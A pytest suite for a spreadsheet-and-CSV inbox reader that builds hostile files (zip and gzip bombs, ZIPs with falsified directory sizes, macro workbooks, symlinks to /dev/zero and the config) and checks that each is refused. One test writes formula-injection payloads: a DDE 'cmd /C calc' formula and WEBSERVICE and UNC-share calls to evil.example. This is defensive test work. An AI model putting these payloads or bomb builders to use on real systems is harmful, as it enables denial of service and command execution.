"""Files that were made to do harm: each is refused with its cure, in bounded time and memory, and the next good one is taken."""

import gzip
import os
import resource
import subprocess
import sys
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter

from alertd.errors import SourceFailed
from tests.integration.test_spreadsheet_source import HEADER, KEPT, NOW, TEXT, Office

Make = Callable[[Office], object]
MEBI = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
NAMES = '<row r="1">' + "".join(
    f'<c r="{at}1" t="inlineStr"><is><t>{name}</t></is></c>'
    for at, name in (("A", "Mã HS"), ("B", "Mã TTHC"), ("C", "Ngày hẹn"))
)


@pytest.fixture
def office(tmp_path: Path) -> Office:
    return Office(tmp_path)


def sheet(rows: str, *, dimension: str = "A1:C2", more: dict[str, bytes] | None = None) -> Make:
    """A workbook whose first sheet has these rows after a header; ``more``: further parts, or others in their place."""

    def make(office: Office) -> None:
        path = office.workbook("a.xlsx", {"a": [["x"]]})
        with zipfile.ZipFile(path) as archive:
            parts = {part: archive.read(part) for part in archive.namelist()}
        text = parts[SHEET].decode()
        start, end = text.index("<sheetData>"), text.index("</sheetData>")
        text = text[:start] + f"<sheetData>{NAMES}</row>{rows}" + text[end:]
        parts[SHEET] = text.replace('<dimension ref="A1"/>', f'<dimension ref="{dimension}"/>').encode()
        parts |= more or {}
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items():
                archive.writestr(name, content)

    return make


def texts(length: int, shown: int) -> Make:
    """One long text that many cells show."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, shown + 2))
    shared = b"<sst><si><t>%s</t></si></sst>"
    return sheet(cells, more={"xl/sharedStrings.xml": shared % (b"A" * length)})


def lying(size: int) -> Make:
    """A workbook whose directory says that its sheet is small. The check sum fits, as far as the directory says."""

    def make(office: Office) -> None:
        sheet("<row/>" * (size // 6))(office)
        path = office.folder / "inbox" / "a.xlsx"
        content = bytearray(path.read_bytes())
        with zipfile.ZipFile(path) as archive:
            part = archive.getinfo(SHEET)
            crc = zipfile.crc32(archive.read(SHEET)[:1000])  # type: ignore[attr-defined]
        for mark, at in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
            name = SHEET.encode()
            place = content.index(name, 0 if at == 14 else part.header_offset + part.compress_size) - (
                30 if at == 14 else 46
            )
            assert content[place : place + 4] == mark
            content[place + at : place + at + 4] = crc.to_bytes(4, "little")
            content[place + at + 8 : place + at + 12] = (1000).to_bytes(4, "little")
        path.write_bytes(content)

    return make


def named(name: str, content: str = TEXT, **how: Any) -> Make:
    return lambda office: office.drop(name, content, **how)


def odd(make: Callable[[Path], object], name: str = "a.csv") -> Make:
    return lambda office: make(office.folder / "inbox" / name)


def ole(mark: str) -> Make:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(700) + mark.encode("utf-16-le") + bytes(700)
    return lambda office: office.drop("a.xlsx", content)


def zipped(content: bytes, name: str = "a.csv.gz") -> Make:
    return lambda office: office.drop(name, content)


def repeated_parts(office: Office) -> None:
    sheet("")(office)
    with zipfile.ZipFile(office.folder / "inbox" / "a.xlsx", "a") as archive:
        archive.writestr(SHEET.replace("/", "\\").upper(), b"<x/>")


def commented(office: Office) -> None:
    sheet("")(office)
    with zipfile.ZipFile(office.folder / "inbox" / "a.xlsx", "a") as archive:
        archive.comment = b"x"


def locked_parts(office: Office) -> None:
    sheet("")(office)
    path = office.folder / "inbox" / "a.xlsx"
    content = path.read_bytes()
    path.write_bytes(content.replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"))


def circle(path: Path) -> None:
    path.symlink_to(path)


TYPES = b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
BY_NAME = {"pick": "name"}
FUTURE = 5_000_000_000
ATTACKS: dict[str, tuple[Make, dict[str, Any], str, str]] = {
    # dated
    "the year 9999 in a name": (named("ho-so-9999-12-31.csv"), BY_NAME, "future", "dated 31/12/9999"),
    "the year 9999 without marks": (named("ho-so-99991231.csv"), BY_NAME, "future", "name it by the day of its list"),
    "day first": (named("ho so 31.12.9999.csv"), BY_NAME, "future", "31/12/9999"),
    "the day after tomorrow": (named("ho-so-2026-10-08.csv"), {"as_of": "filename"}, "future", "08/10/2026"),
    "a stamp of the future": (named("a.csv", at=FUTURE), {}, "future", "set the clock of its machine right"),
    # macros
    "xlsm": (named("a.xlsm"), {}, "not_data", "save it as .xlsx (without macros)"),
    "macros in the types": (sheet("", more={"[Content_Types].xml": TYPES}), {}, "not_data", "holds macros"),
    "macros by name": (sheet("", more={"xl/VBAPROJECT.BIN": b"x"}), {}, "not_data", "holds macros"),
    # size
    "the last cell": (
        sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        {},
        "too_large",
        "16,384 columns",
    ),
    "far by the cell alone": (sheet('<row r="2"><c r="BXX1048576"><v>1</v></c></row>'), {}, "too_large", "cells"),
    "far in small letters": (sheet('<row r="2"><c r="bxx1048576"><v>1</v></c></row>'), {}, "too_large", "cells"),
    "far with blanks": (sheet('<row r="2"><c s = "1"\n r = "BXX1048576"><v>1</v></c></row>'), {}, "too_large", "cells"),
    "far behind a long attribute": (
        sheet(f'<row r="2"><c x="{"y" * 50_000}" r="XFD2"><v>1</v></c></row>'),
        {},
        "too_large",
        "16,384 columns",
    ),
    "a tag without end": (sheet(f'<row r="2" x="{"y" * 2_000_000}"/>'), {}, "not_data", "a tag without end"),
    "a sign in an attribute": (sheet('<row r="2"><c x=">" q r="XFD9"/></row>'), {}, "not_data", "cannot be placed"),
    "columns without places": (sheet("<row>" + "<c/>" * 3_000 + "</row>"), {}, "too_large", "columns"),
    "rows without places": (
        sheet('<row r="2"><c r="BXX2"/></row>' + "<row/>" * 20_000),
        {},
        "too_large",
        "20,002 rows",
    ),
    "a text shown too often": (texts(100_000, 5_000), {}, "too_large", "repeats its texts"),
    # bombs
    "zeros": (sheet("", more={"xl/media/a.png": bytes(65 * MEBI)}), {}, "too_large", "unpacks to more than 250 times"),
    "a directory that lies": (lying(3 * MEBI), {}, "not_data", "larger than its directory says"),
    "a packed bomb": (zipped(gzip.compress(TEXT.encode() + (b"a" * MEBI + b";\n") * 66)), {}, "too_large", "250 times"),
    "packed twice": (zipped(gzip.compress(gzip.compress(TEXT.encode()))), {}, "not_data", "packed once more"),
    "packed under another name": (zipped(gzip.compress(TEXT.encode()), "a.csv"), {}, "not_data", "name it .csv.gz"),
    "one endless line": (zipped(TEXT.encode() + b"a" * 9 * MEBI, "a.csv"), {}, "too_large", "a line of more than"),
    "a million columns": (named("a.csv", TEXT + ";" * 1_000_000), {}, "too_large", "1,000,001 columns"),
    "a million columns in the header": (named("a.csv", HEADER + ";" * 1_000_000 + "\n"), {}, "too_large", "columns"),
    "two parts of one name": (repeated_parts, {}, "not_data", "two parts of one name"),
    "a second directory": (commented, {}, "not_data", "a comment at its end"),
    "parts under a password": (locked_parts, {}, "not_data", "has a password"),
    # what is no file
    "a folder": (odd(Path.mkdir), {}, "not_data", "a.csv is no file but a folder"),
    "a pipe": (odd(os.mkfifo), {}, "not_data", "a.csv is no file but a pipe"),
    "a link into nothing": (odd(lambda path: path.symlink_to("b.csv")), {}, "unreachable", "No such file"),
    "a circle of links": (odd(circle), {}, "unreachable", "link"),
    "a device": (odd(lambda path: path.symlink_to("/dev/zero")), {}, "refused", "leads by a link out of"),
    "a link to the config": (odd(lambda path: path.symlink_to("../config.toml")), {}, "refused", "by a link out of"),
    "a folder by a link": (
        odd(lambda path: path.symlink_to("../.."), "x"),
        {"path": "inbox/*/outside.csv"},
        "refused",
        "by a link out of",
    ),
    "empty rows": (named("a.csv", TEXT + ";;;\n" * 1_100_001), {}, "too_large", "1,100,000 empty rows"),
    # texts
    "a password": (ole("EncryptedPackage"), {}, "not_data", "has a password"),
    "an old xls": (ole("Workbook"), {}, "not_data", "is an old .xls"),
    "UTF-16 without a mark": (zipped(TEXT.encode("utf-16-le"), "a.csv"), {}, "not_data", "CSV UTF-8"),
    "zero bytes": (named("a.csv", TEXT + "H2\0;A;1.004227;18/09/2024\n"), {}, "not_data", "zero bytes in line 3"),
    "another delimiter": (named("a.csv", TEXT), {"delimiter": ","}, "schema", 'is delimiter = ";" meant?'),
    "endless names": (named("a.csv", ";".join("x" * 60_000 for _ in range(30))), {}, "schema", "there are: xxx"),
}


@pytest.mark.parametrize(("make", "more", "reason", "words"), ATTACKS.values(), ids=ATTACKS)
def test_a_poisoned_file_is_refused_in_both_languages_and_the_next_good_one_is_taken(
    office: Office, make: Make, more: dict[str, Any], reason: str, words: str
) -> None:
    (office.folder.parent / "outside.csv").write_text(TEXT)
    office.drop("ho-so-2026-10-01.csv", TEXT, at=1_600_000_000)
    make(office)
    failure = office.failure(**more)
    assert (failure.reason, words in str(failure)) == (reason, True), str(failure)
    assert "; " in str(failure) or " Correct " in str(failure)
    assert "ề nghị" in failure.vi
    assert len(str(failure)) <= 2_000
    assert str(failure).isprintable()
    # A good one comes later. What was poisoned lies there still.
    name = "x/outside.csv" if more.get("path") else "ho-so-2026-10-06.csv"
    path = office.folder / "inbox" / name
    if more.get("path"):
        (office.folder / "inbox" / "x").unlink()
        path.parent.mkdir()
    path.write_text(TEXT)
    os.utime(path, (3e9, 3e9))
    good = {**more, "delimiter": ""}
    assert [raw for _, raw in office.read(**good)[1]] == [KEPT]


def test_a_bad_file_that_is_older_than_the_good_one_is_only_noted(office: Office) -> None:
    office.drop("a.xlsm", "")
    office.drop("b.csv", TEXT, at=1_700_000_001)
    snapshot, rows = office.read()
    assert [raw for _, raw in rows] == [KEPT]
    assert "1 older file cannot be taken and was passed over: a.xlsm: a file of this kind" in snapshot.notes[0]
    (doubt,) = office.source().probe(NOW).doubts
    assert "a.xlsm" in doubt


def test_an_old_list_that_is_dated_back_does_not_stand_in_the_way_of_the_newest(office: Office) -> None:
    office.drop("ho-so-2026-10-05.csv", TEXT)
    office.drop("ho-so-2026-10-04.xlsm", "", at=1_700_000_500)
    assert len(office.read(pick="name")[1]) == 1


def test_a_stamp_of_tomorrow_is_ordered_by_when_the_file_truly_came(office: Office) -> None:
    office.clock = datetime.now(UTC).timestamp()
    office.drop("a.csv", TEXT, at=int(office.clock) + 3_600)
    office.drop("b.csv", TEXT.replace("0003", "0004"), at=int(office.clock) + 60)
    office.clock += 120
    assert office.read()[1][0][1]["Mã HS"] == "H26-240902-0004"


def test_names_of_any_kind_are_shown_on_one_line_and_shortened(office: Office) -> None:
    for name in ("a\nb\u202egpj.xlsm", f"{'x' * 240}.xlsm", "\udcff.xlsm"):
        path = office.drop(name, "")
        assert "a file of this kind is not read" in (said := str(office.failure()))
        assert said.isprintable()
        assert len(said) < 250
        path.unlink()
    for name in ("a\nb\u202e.csv", f"{'x' * 240}.csv"):
        path = office.drop(name, TEXT)
        snapshot, rows = office.read()
        assert rows[0][0].isprintable()
        assert len(snapshot.marks["file"]) <= 100
        path.unlink()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_a_second_name_of_a_file_of_somebody_else_is_refused(office: Office, tmp_path: Path) -> None:
    (tmp_path / "private").write_text(TEXT)
    os.chown(tmp_path / "private", 4_242_424, 4_242_424)
    os.link(tmp_path / "private", office.folder / "inbox" / "a.csv")
    failure = office.failure()
    assert (failure.reason, "hard link" in str(failure)) == ("refused", True)
    os.chown(tmp_path / "private", os.geteuid(), -1)  # a backup's second name of our own is none of these
    assert len(office.read()[1]) == 1


def test_values_of_formulas_and_outside_links_are_read_and_nothing_is_followed(office: Office) -> None:
    path = office.folder / "inbox" / "a.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        page = book.add_worksheet("a")
        page.write_row(0, 0, ["Mã HS", "Mã TTHC", "Ngày hẹn"])
        page.write_formula(1, 0, "='\\\\evil.example\\share\\[x.xlsx]a'!A1", None, "H26-1")
        page.write_formula(1, 1, "=cmd|'/C calc'!A0", None, "1.004227")
        page.write_formula(1, 2, '=WEBSERVICE("http://evil.example/")', None, "18/09/2024")
        page.write_url(2, 0, "http://evil.example/", string="H26-2")
    assert [list(raw.values()) for _, raw in office.read()[1]] == [
        ["H26-1", "1.004227", "18/09/2024"],
        ["H26-2", "", ""],
    ]


def test_cells_that_do_not_say_where_they_are_are_read_as_they_stand(office: Office) -> None:
    text = "<row><c t='inlineStr'><is><t>H1</t></is></c><c/><c t='inlineStr'><is><t>x</t></is></c></row>"
    sheet(text * 3)(office)
    assert [raw["Ngày hẹn"] for _, raw in office.read()[1]] == ["x", "x", "x"]


def test_a_million_empty_columns_and_rows_that_are_only_declared_cost_nothing(office: Office) -> None:
    sheet('<row r="2"><c r="A2"><v>5</v></c></row><row r="1048576"/>', dimension="A1:XFD1048576")(office)
    assert [raw["Mã HS"] for _, raw in office.read()[1]] == [5]


def test_ten_thousand_files_are_looked_through_and_the_folder_is_told_to_be_crowded(office: Office) -> None:
    for number in range(10_000):
        (office.folder / "inbox" / f"{number}.csv").touch()
    office.drop("last.csv", TEXT, at=3_000_000_000)
    assert len(office.read()[1]) == 1
    (doubt,) = office.source().probe(NOW).doubts
    assert "10,001 files lie in" in doubt


def test_a_folder_into_which_everybody_can_drop_a_list_is_named(office: Office) -> None:
    office.drop("a.csv", TEXT)
    (office.folder / "inbox").chmod(0o777)
    assert next(doubt.rpartition(" ")[0] for doubt in office.source().probe(NOW).doubts).endswith("; chmod o-w")


LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1_000_000_000,) * 2)
resource.setrlimit(resource.RLIMIT_CPU, (20, 20))
from pathlib import Path
from tests.integration.test_poisoned_folder import ATTACKS, Office, SourceFailed
office = Office(Path(sys.argv[1]))
before = resource.getrusage(resource.RUSAGE_SELF)
for name in sys.argv[2:]:
    make, more, _, _ = ATTACKS[name]
    make(office)
    try:
        office.read(**more)
    except SourceFailed as failure:
        print(failure.reason)
    for path in (office.folder / "inbox").iterdir():
        path.unlink()
"""
HEAVY = (
    "the last cell",
    "far by the cell alone",
    "a text shown too often",
    "zeros",
    "a directory that lies",
    "a packed bomb",
)


def test_what_is_made_to_fill_the_memory_does_not(tmp_path: Path) -> None:
    """In a process of its own, which would be ended: laid out, each of them takes more than it is given."""
    ran = subprocess.run(
        [sys.executable, "-c", LIMITED, str(tmp_path), *HEAVY], capture_output=True, text=True, check=False
    )
    assert ran.stdout.split() == ["too_large"] * 4 + ["not_data", "too_large"], ran.stderr
    used = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert used < 1_000, used


def test_a_file_that_becomes_a_pipe_meanwhile_is_not_waited_for(office: Office) -> None:
    path = office.drop("a.csv", TEXT)
    office.clock = 1_700_000_001

    def swap() -> None:
        path.unlink()
        os.mkfifo(path)

    office.meanwhile = swap
    assert office.failure().reason == "incomplete"


def test_an_unforeseen_workbook_is_one_sentence(office: Office) -> None:
    sheet(
        "", more={"xl/workbook.xml": b"<workbook><sheets><sheet name='a' sheetId='1' r:id='rId9'/></sheets></workbook>"}
    )(office)
    failure = office.failure()
    assert isinstance(failure, SourceFailed)
    assert failure.reason == "not_data"
